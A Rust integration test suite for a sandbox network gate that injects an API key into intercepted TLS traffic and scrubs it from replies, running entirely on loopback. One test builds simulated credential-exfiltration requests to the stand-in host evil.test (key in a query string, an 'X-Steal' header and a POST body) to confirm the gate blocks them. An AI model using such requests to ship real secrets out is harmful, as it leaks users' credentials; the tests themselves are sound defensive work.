//! Credential injection through the gate, on loopback only.
//!
//! Network safety: every socket is on 127.0.0.1. Names are pinned to
//! documentation addresses (so no DNS query is made), and the gate's
//! connector maps those addresses to loopback servers and refuses anything
//! else without opening a socket. The "real" upstreams are TLS servers
//! with their own test CA, which the gate trusts through
//! `Injection::extra_roots` (the host trust store is not loaded).

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use airlock_net::dns::PinSet;
use airlock_net::gate::{ConnectFuture, Connector, Gate, GateConfig};
use airlock_net::inject::{Credential, Injection, Injector, SandboxCa, provider};
use airlock_net::log::{Decision, DecisionLog, DecisionPath, VerdictKind, read_log};
use airlock_net::policy::{Policy, PolicyHandle, Preset, Source};
use rustls_pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use zeroize::Zeroizing;

const SANDBOX: &str = "injectbox";
const SECRET: &str = "sk-ant-api03-REAL-SECRET-VALUE-0123456789abcdefghijklmnopqrstuvwxyz";
const API: &str = "api.anthropic.test";

#[derive(Default)]
struct MapConnector {
    map: HashMap<SocketAddr, SocketAddr>,
    attempts: Mutex<Vec<SocketAddr>>,
}

impl Connector for MapConnector {
    fn connect(&self, addr: SocketAddr) -> ConnectFuture<'_> {
        self.attempts.lock().unwrap().push(addr);
        let target = self.map.get(&addr).copied();
        Box::pin(async move {
            match target {
                Some(t) => {
                    assert!(t.ip().is_loopback(), "test connector maps only to loopback");
                    TcpStream::connect(t).await
                }
                None => Err(std::io::Error::new(
                    std::io::ErrorKind::PermissionDenied,
                    format!("test connector: {addr} is not mapped"),
                )),
            }
        })
    }
}

/// A test CA and a TLS server config for `host` signed by it.
struct TestCa {
    der: CertificateDer<'static>,
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
}

fn test_ca(cn: &str) -> TestCa {
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
    let mut p = rcgen::CertificateParams::default();
    p.distinguished_name.push(rcgen::DnType::CommonName, cn);
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let cert = p.self_signed(&key).unwrap();
    TestCa {
        der: cert.der().clone(),
        issuer: rcgen::Issuer::new(p, key),
    }
}

fn server_config(ca: &TestCa, host: &str) -> (Arc<rustls::ServerConfig>, CertificateDer<'static>) {
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
    let p = rcgen::CertificateParams::new(vec![host.to_string()]).unwrap();
    let cert = p.signed_by(&key, &ca.issuer).unwrap();
    let cfg = rustls::ServerConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![cert.der().clone()],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
        .unwrap();
    (Arc::new(cfg), cert.der().clone())
}

type Heads = Arc<Mutex<Vec<String>>>;

/// Reads one HTTP message (head + Content-Length or chunked body).
async fn read_message<S: AsyncRead + Unpin>(s: &mut S) -> Option<(String, Vec<u8>)> {
    let mut buf = Vec::new();
    let mut b = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        match s.read(&mut b).await {
            Ok(1) => buf.push(b[0]),
            _ => return None,
        }
    }
    let head = String::from_utf8(buf).unwrap();
    let lower = head.to_ascii_lowercase();
    let mut body = Vec::new();
    if lower.contains("transfer-encoding: chunked") {
        // Raw chunked body, up to the last chunk.
        while !body.ends_with(b"0\r\n\r\n") {
            match s.read(&mut b).await {
                Ok(1) => body.push(b[0]),
                _ => return None,
            }
        }
    } else if let Some(cl) = lower
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
    {
        body = vec![0u8; cl.trim().parse().unwrap()];
        s.read_exact(&mut body).await.ok()?;
    }
    Some((head, body))
}

/// A TLS echo upstream: answers every request (keep-alive) with the
/// x-api-key it received in a header and in the body; `/chunked` answers
/// chunked, with the key split across two chunks sent 250 ms apart.
async fn tls_upstream(cfg: Arc<rustls::ServerConfig>) -> (SocketAddr, Heads) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let heads: Heads = Arc::default();
    let h2 = heads.clone();
    let acceptor = tokio_rustls::TlsAcceptor::from(cfg);
    tokio::spawn(async move {
        loop {
            let Ok((s, _)) = l.accept().await else { return };
            let acceptor = acceptor.clone();
            let heads = h2.clone();
            tokio::spawn(async move {
                let Ok(mut s) = acceptor.accept(s).await else {
                    return;
                };
                while let Some((head, body)) = read_message(&mut s).await {
                    heads.lock().unwrap().push(head.clone());
                    let key = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .starts_with("x-api-key:")
                                .then(|| l[10..].trim().to_string())
                        })
                        .unwrap_or_default();
                    let text = format!("{{\"you_sent\":\"{key}\",\"body_len\":{}}}", body.len());
                    let resp = if head.starts_with("GET /chunked") {
                        // The echoed key split in its middle across two
                        // chunks, each written on its own.
                        let (a, b) = text.split_at(14 + key.len() / 2);
                        let first = format!(
                            "HTTP/1.1 200 OK\r\nX-Echo: {key}\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{a}\r\n",
                            a.len()
                        );
                        if s.write_all(first.as_bytes()).await.is_err() {
                            return;
                        }
                        let _ = s.flush().await;
                        tokio::time::sleep(Duration::from_millis(250)).await;
                        format!("{:x}\r\n{b}\r\n0\r\n\r\n", b.len())
                    } else {
                        format!(
                            "HTTP/1.1 200 OK\r\nX-Echo: {key}\r\nContent-Length: {}\r\n\r\n{text}",
                            text.len()
                        )
                    };
                    if s.write_all(resp.as_bytes()).await.is_err() {
                        return;
                    }
                    let _ = s.flush().await;
                }
            });
        }
    });
    (addr, heads)
}

/// A plain HTTP origin that records what it got.
async fn http_origin() -> (SocketAddr, Heads) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let heads: Heads = Arc::default();
    let h2 = heads.clone();
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = l.accept().await else {
                return;
            };
            let heads = h2.clone();
            tokio::spawn(async move {
                if let Some((head, _)) = read_message(&mut s).await {
                    heads.lock().unwrap().push(head);
                    let _ = s
                        .write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                        )
                        .await;
                }
            });
        }
    });
    (addr, heads)
}

struct World {
    proxy: SocketAddr,
    ca: Arc<SandboxCa>,
    placeholder: String,
    connector: Arc<MapConnector>,
    log_path: PathBuf,
}

impl World {
    fn log(&self) -> Vec<Decision> {
        read_log(&self.log_path).unwrap()
    }

    fn find(&self, verdict: VerdictKind, part: &str) -> Option<Decision> {
        self.log()
            .into_iter()
            .find(|d| d.verdict == verdict && d.rule.contains(part))
    }
}

/// A gate with one credential for `API`, allowing `allow`; `pins` maps
/// names to documentation addresses, `map` those to loopback servers.
async fn world(
    tag: &str,
    allow: &[&str],
    pins: &[(&str, &str)],
    map: &[(&str, SocketAddr)],
    upstream_ca: &TestCa,
) -> World {
    let mut connector = MapConnector::default();
    for (from, to) in map {
        connector.map.insert(from.parse().unwrap(), *to);
    }
    let connector = Arc::new(connector);
    let log_path =
        std::env::temp_dir().join(format!("airlock-inject-{}-{tag}.jsonl", std::process::id()));
    let _ = std::fs::remove_file(&log_path);
    let log = DecisionLog::open(&log_path, SANDBOX).unwrap();
    let policy = allow.iter().fold(Policy::new(Preset::None), |p, r| {
        p.allow(r.parse().unwrap(), Source::Flag)
    });
    let pinset = PinSet::new();
    for (name, ip) in pins {
        pinset.pin(name, &[ip.parse().unwrap()], Duration::from_secs(300));
    }
    let cred = Credential::new(
        "anthropic",
        &[API],
        "x-api-key",
        "{secret}",
        Zeroizing::new(SECRET.to_string()),
    );
    let placeholder = cred.placeholder.clone();
    let injector = Arc::new(Injector::new(vec![cred]).unwrap());
    let ca = Arc::new(SandboxCa::generate_for_hosts(SANDBOX, &[API.to_string()]).unwrap());
    let mut injection = Injection::new(injector, ca.clone());
    injection.extra_roots = vec![upstream_ca.der.clone()];
    injection.use_host_store = false;
    // Never a real resolver: names are pinned, and this port is closed.
    let mut cfg = GateConfig::new(SANDBOX, "127.0.0.1:9".parse().unwrap());
    cfg.connect_timeout = Duration::from_secs(3);
    cfg.handshake_timeout = Duration::from_secs(3);
    cfg.injection = Some(injection);
    let gate = Gate::with_connector(
        cfg,
        PolicyHandle::new(policy),
        pinset,
        log,
        connector.clone(),
    );
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = l.local_addr().unwrap();
    gate.spawn(l);
    World {
        proxy,
        ca,
        placeholder,
        connector,
        log_path,
    }
}

async fn connect(proxy: SocketAddr, target: &str) -> (TcpStream, String) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match s.read(&mut b).await {
            Ok(1) => head.push(b[0]),
            _ => break,
        }
    }
    (s, String::from_utf8_lossy(&head).into_owned())
}

fn client_config(root: &CertificateDer<'static>) -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add(root.clone()).unwrap();
    let mut cfg = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    Arc::new(cfg)
}

async fn tls_via_proxy(
    proxy: SocketAddr,
    host: &str,
    root: &CertificateDer<'static>,
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let (s, head) = connect(proxy, &format!("{host}:443")).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    tokio_rustls::TlsConnector::from(client_config(root))
        .connect(ServerName::try_from(host.to_string()).unwrap(), s)
        .await
}

async fn roundtrip<S: AsyncRead + AsyncWrite + Unpin>(s: &mut S, req: &str) -> (String, Vec<u8>) {
    s.write_all(req.as_bytes()).await.unwrap();
    tokio::time::timeout(Duration::from_secs(5), read_message(s))
        .await
        .expect("a response in time")
        .expect("a response")
}

/// A world whose one allowed host is the credential host API, served over TLS by a test upstream
/// (its own CA) on 203.0.113.10: the world, what the upstream received, the sandbox CA's cert.
async fn api_world(tag: &str) -> (World, Heads, CertificateDer<'static>) {
    let upstream_ca = test_ca("upstream test CA");
    let (cfg, _) = server_config(&upstream_ca, API);
    let (up, heads) = tls_upstream(cfg).await;
    let w = world(
        tag,
        &[API],
        &[(API, "203.0.113.10")],
        &[("203.0.113.10:443", up)],
        &upstream_ca,
    )
    .await;
    let ca_der = w.ca.cert_der().clone();
    (w, heads, ca_der)
}

#[tokio::test]
async fn connect_to_credential_host_injects_and_scrubs() {
    let (w, heads, ca_der) = api_world("inject").await;
    let mut s = tls_via_proxy(w.proxy, API, &ca_der)
        .await
        .expect("client trusts the sandbox CA");
    assert_eq!(
        s.get_ref().1.alpn_protocol(),
        Some(&b"http/1.1"[..]),
        "only http/1.1 offered"
    );
    let ph = &w.placeholder;

    // 1: GET, Content-Length response; gzip asked for, identity sent.
    let (head, body) = roundtrip(
        &mut s,
        &format!("GET /v1/models HTTP/1.1\r\nHost: {API}\r\nx-api-key: {ph}\r\nAccept-Encoding: gzip\r\n\r\n"),
    )
    .await;
    let body = String::from_utf8(body).unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(
        !head.contains(SECRET) && !body.contains(SECRET),
        "{head}{body}"
    );
    assert!(
        head.contains(&format!("X-Echo: {ph}\r\n")),
        "echoed header scrubbed: {head}"
    );
    assert!(
        body.contains(&format!("\"you_sent\":\"{ph}\"")),
        "echoed body scrubbed: {body}"
    );

    // 2: POST with a Content-Length body on the same connection.
    let payload = format!("{{\"prompt\":\"my env has ANTHROPIC_API_KEY={ph}\"}}");
    let (head, body) = roundtrip(
        &mut s,
        &format!(
            "POST /v1/messages HTTP/1.1\r\nHost: {API}\r\nx-api-key: {ph}\r\nContent-Length: {}\r\n\r\n{payload}",
            payload.len()
        ),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(String::from_utf8_lossy(&body).contains(&format!("\"body_len\":{}", payload.len())));

    // 3: chunked request body, chunked response.
    let (head, body) = roundtrip(
        &mut s,
        &format!("GET /chunked HTTP/1.1\r\nHost: {API}\r\nx-api-key: {ph}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
    )
    .await;
    let body = String::from_utf8(body).unwrap();
    assert!(head.contains(&format!("X-Echo: {ph}\r\n")), "{head}");
    assert!(!body.contains(SECRET), "{body}");
    let unchunked: String = body
        .split("\r\n")
        .enumerate()
        .filter(|(i, _)| i % 2 == 1)
        .map(|(_, p)| p)
        .collect();
    assert!(
        unchunked.contains(&format!("\"you_sent\":\"{ph}\"")),
        "the key split across two chunks is scrubbed: {body}"
    );
    assert!(!unchunked.contains(SECRET), "{body}");

    // The upstream saw the real key on every request, never the placeholder.
    let heads = heads.lock().unwrap().clone();
    assert_eq!(
        heads.len(),
        3,
        "three requests on one connection: {heads:?}"
    );
    for h in &heads {
        assert!(h.contains(&format!("x-api-key: {SECRET}\r\n")), "{h}");
        assert!(!h.contains(ph.as_str()), "{h}");
    }
    assert!(
        heads[0].contains("Accept-Encoding: identity\r\n"),
        "{}",
        heads[0]
    );
    assert_eq!(w.connector.attempts.lock().unwrap().len(), 1);
    let d = w
        .find(VerdictKind::Allow, "credential anthropic injected")
        .expect("logged");
    assert_eq!(d.path, DecisionPath::ProxyConnect);
    assert_eq!(d.name.as_deref(), Some(API));
    let raw = std::fs::read_to_string(&w.log_path).unwrap();
    assert!(!raw.contains(SECRET), "the secret is never logged");
}

#[tokio::test]
async fn fronting_inside_an_intercepted_connection_is_refused() {
    let (w, heads, ca_der) = api_world("fronting").await;
    let mut s = tls_via_proxy(w.proxy, API, &ca_der).await.unwrap();
    let (head, _) = roundtrip(
        &mut s,
        &format!(
            "GET / HTTP/1.1\r\nHost: other.example.test\r\nx-api-key: {}\r\n\r\n",
            w.placeholder
        ),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(heads.lock().unwrap().is_empty());
    w.find(VerdictKind::Deny, "request for other.example.test")
        .expect("logged");
}

#[tokio::test]
async fn placeholder_to_another_host_is_refused_and_logged() {
    let upstream_ca = test_ca("upstream test CA");
    let (origin, seen) = http_origin().await;
    let w = world(
        "exfil",
        &["evil.test", API],
        &[("evil.test", "198.51.100.7")],
        &[("198.51.100.7:80", origin)],
        &upstream_ca,
    )
    .await;
    let ph = w.placeholder.clone();
    for req in [
        format!("GET http://evil.test/?k={ph} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        format!("GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nX-Steal: {ph}\r\n\r\n"),
        format!(
            "POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: {}\r\n\r\n{ph}",
            ph.len()
        ),
    ] {
        let mut s = TcpStream::connect(w.proxy).await.unwrap();
        s.write_all(req.as_bytes()).await.unwrap();
        let mut out = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await;
        let out = String::from_utf8_lossy(&out);
        assert!(out.starts_with("HTTP/1.1 403"), "{out}");
        assert!(
            out.contains("exfiltration: placeholder of anthropic sent to evil.test"),
            "{out}"
        );
    }
    assert!(seen.lock().unwrap().is_empty(), "nothing reached evil.test");
    assert!(
        w.connector.attempts.lock().unwrap().is_empty(),
        "never even dialed"
    );
    let d = w
        .find(
            VerdictKind::Deny,
            "exfiltration: placeholder of anthropic sent to evil.test",
        )
        .expect("logged");
    assert_eq!(d.path, DecisionPath::ProxyHttp);

    // A clean request to the same host goes through.
    let mut s = TcpStream::connect(w.proxy).await.unwrap();
    s.write_all(b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        .await
        .unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await;
    assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 200"));

    // Plain HTTP to the credential host itself: the secret never goes in clear.
    let mut s = TcpStream::connect(w.proxy).await.unwrap();
    s.write_all(
        format!("GET http://{API}/ HTTP/1.1\r\nHost: {API}\r\nx-api-key: {ph}\r\n\r\n").as_bytes(),
    )
    .await
    .unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await;
    let out = String::from_utf8_lossy(&out);
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("never sent over plain HTTP"),
        "{out}"
    );
}

#[tokio::test]
async fn other_hosts_are_tunneled_not_intercepted() {
    let upstream_ca = test_ca("upstream test CA");
    let other_ca = test_ca("other site CA");
    let (cfg, other_cert) = server_config(&other_ca, "other.test");
    let (up, heads) = tls_upstream(cfg).await;
    let w = world(
        "tunnel",
        &["other.test", API],
        &[("other.test", "203.0.113.20")],
        &[("203.0.113.20:443", up)],
        &upstream_ca,
    )
    .await;
    // The client trusts only the site's own CA, not the sandbox CA: it works,
    // and the certificate it sees is the site's own.
    let mut s = tls_via_proxy(w.proxy, "other.test", &other_ca.der)
        .await
        .expect("tunneled");
    let seen_cert = s.get_ref().1.peer_certificates().unwrap()[0].clone();
    assert_eq!(seen_cert, other_cert);
    let (head, _) = roundtrip(
        &mut s,
        &format!(
            "GET / HTTP/1.1\r\nHost: other.test\r\nx-api-key: {}\r\n\r\n",
            w.placeholder
        ),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    // Not intercepted: the placeholder arrives as is (it is worthless there).
    assert!(heads.lock().unwrap()[0].contains(&w.placeholder));
    assert!(w.find(VerdictKind::Allow, "injected").is_none());
}

#[tokio::test]
async fn untrusted_upstream_certificate_fails_and_is_logged() {
    let upstream_ca = test_ca("upstream test CA");
    let impostor_ca = test_ca("impostor CA");
    let (cfg, _) = server_config(&impostor_ca, API);
    let (up, heads) = tls_upstream(cfg).await;
    let w = world(
        "untrusted",
        &[API],
        &[(API, "203.0.113.10")],
        &[("203.0.113.10:443", up)],
        &upstream_ca,
    )
    .await;
    let ca_der = w.ca.cert_der().clone();
    let mut s = tls_via_proxy(w.proxy, API, &ca_der).await.unwrap();
    let _ = s
        .write_all(
            format!(
                "GET / HTTP/1.1\r\nHost: {API}\r\nx-api-key: {}\r\n\r\n",
                w.placeholder
            )
            .as_bytes(),
        )
        .await;
    let (head, body) = tokio::time::timeout(Duration::from_secs(5), read_message(&mut s))
        .await
        .unwrap()
        .unwrap();
    assert!(head.starts_with("HTTP/1.1 502"), "{head}");
    assert!(
        String::from_utf8_lossy(&body).contains("upstream TLS"),
        "{head}"
    );
    assert!(
        heads.lock().unwrap().is_empty(),
        "the impostor never got a request"
    );
    let d = w
        .find(
            VerdictKind::Deny,
            "upstream TLS to api.anthropic.test failed",
        )
        .expect("logged");
    assert_eq!(d.path, DecisionPath::ProxyConnect);
}

#[tokio::test]
async fn sandbox_ca_cannot_certify_other_names() {
    // Name constraints: a leaf the CA issued for another name does not
    // verify, even for a client that trusts the CA.
    let ca = SandboxCa::generate_for_hosts(SANDBOX, &[API.to_string()]).unwrap();
    let cfg = ca.leaf_for("bank.test").unwrap();
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        if let Ok((s, _)) = l.accept().await {
            let _ = tokio_rustls::TlsAcceptor::from(cfg).accept(s).await;
        }
    });
    let s = TcpStream::connect(addr).await.unwrap();
    let r = tokio_rustls::TlsConnector::from(client_config(ca.cert_der()))
        .connect(ServerName::try_from("bank.test").unwrap(), s)
        .await;
    assert!(r.is_err(), "name-constrained CA must not certify bank.test");
}
